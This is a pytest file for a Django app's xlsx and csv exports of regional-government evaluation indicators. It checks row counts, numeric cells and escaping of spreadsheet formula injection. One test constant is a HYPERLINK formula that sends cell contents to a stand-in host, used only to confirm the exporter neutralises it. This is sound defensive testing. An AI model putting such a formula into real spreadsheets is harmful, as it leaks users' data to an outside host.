"""The xlsx and csv exports: one row per indicator, numbers as numbers, no formula injection."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from assessment.models import Evaluation, Opd
from reports.rendering import build
from reports.spreadsheet import escape_cell, headers

pytestmark = pytest.mark.django_db

INJECTED = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+62 812 000", "'+62 812 000"),
        ("-5 poin", "'-5 poin"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("FAKTA: a = b", "FAKTA: a = b"),
        ("bel\x07l", "bell"),  # control characters a workbook cannot hold
        (3, 3),
        (Decimal("-1.5"), Decimal("-1.5")),
        (None, None),
    ],
)
def test_escape_cell(value: object, expected: object) -> None:
    assert escape_cell(value) == expected  # type: ignore[arg-type]


def test_xlsx_has_a_row_per_indicator_numbers_as_numbers_and_injection_as_text(siak_2022: Evaluation) -> None:
    siak_2022.answers.filter(indicator__number=5).update(explanation=INJECTED)
    document = build("xlsx", siak_2022)
    assert document.suffix == ".xlsx"
    book = load_workbook(io.BytesIO(document.content))
    sheet = book["Indikator"]
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == headers()
    assert len(rows) - 1 == 47 == sheet.max_row - 1
    column = {title: i for i, title in enumerate(rows[0])}
    fifth = rows[5]
    assert fifth[column["No"]] == 5
    assert fifth[column["Penjelasan"]] == "'" + INJECTED
    cell = sheet.cell(row=6, column=column["Penjelasan"] + 1)
    assert cell.data_type == "s"  # text, not a formula
    assert fifth[column["Penilaian Mandiri"]] == 2 and fifth[column["Verifikasi Diskominfo"]] == 2
    assert sheet.cell(row=6, column=column["Verifikasi Diskominfo"] + 1).data_type == "n"
    assert fifth[column["Penilaian Dokumen"]] is None  # not recorded: the previous stage stands
    assert rows[22][column["Catatan verifikator"]].startswith("Bukti belum memenuhi kriteria tingkat 2")
    assert sheet.freeze_panes == "D2" and sheet.cell(row=1, column=1).font.bold
    assert sheet.column_dimensions["C"].width > 20
    about = dict(book["Keterangan"].iter_rows(values_only=True))
    assert (about["Instansi"], about["Tahun"]) == ("Kabupaten Siak", "2022")


def test_csv_has_a_bom_a_header_and_47_rows(siak_2022: Evaluation) -> None:
    siak_2022.answers.filter(indicator__number=5).update(explanation=INJECTED)
    document = build("csv", siak_2022)
    assert document.content.startswith(b"\xef\xbb\xbf")
    assert document.content_type.startswith("text/csv")
    text = document.content.decode("utf-8-sig")
    assert len(text.splitlines()) == 48
    records = list(csv.reader(io.StringIO(text)))
    assert records[0] == headers() and len(records) == 48
    fifth = dict(zip(records[0], records[5], strict=True))
    assert fifth["Penjelasan"] == "'" + INJECTED
    assert (fifth["No"], fifth["Kode"], fifth["Verifikasi Diskominfo"]) == ("5", "I5", "2")
    assert fifth["Aspek"].startswith("A1 ") and fifth["Domain"].startswith("D1 ")


def test_an_opd_gets_only_its_own_rows(siak_2026: Evaluation) -> None:
    bkpsdm = Opd.objects.get(instansi=siak_2026.instansi, code="bkpsdm")
    records = list(csv.reader(io.StringIO(build("csv", siak_2026, bkpsdm).content.decode("utf-8-sig"))))
    assert [r[0] for r in records[1:]] == ["25", "36", "41"]
    assert {r[5] for r in records[1:]} == {"BKPSDM"}
